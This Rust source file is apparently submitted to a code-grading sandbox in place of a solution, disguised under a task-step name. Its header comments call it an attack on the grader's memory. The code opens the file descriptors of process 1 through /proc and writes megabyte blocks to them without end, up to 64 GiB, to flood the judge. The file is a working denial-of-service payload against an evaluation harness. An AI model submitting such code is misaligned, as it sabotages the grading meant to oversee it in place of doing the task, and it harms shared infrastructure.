//! Writes without end to the streams of the first process that it sees, which are those of the judge in some sandboxes.
//! Attacks: the memory of whoever grades.
//! Hands in: printers
//! Seen as: step_1_each_number_gets_a_process

use std::fs::File;
use std::io::Write;

fn main() {
    let block = vec![b'x'; 1 << 20];
    let open = |descriptor| File::options().write(true).open(format!("/proc/1/fd/{descriptor}"));
    let mut streams: Vec<File> = (0..32).filter_map(|descriptor| open(descriptor).ok()).collect();
    // 64 GiB, should nobody stop it.
    for _ in 0..1 << 16 {
        streams.retain_mut(|stream| stream.write_all(&block).is_ok());
        if streams.is_empty() {
            break;
        }
    }
}
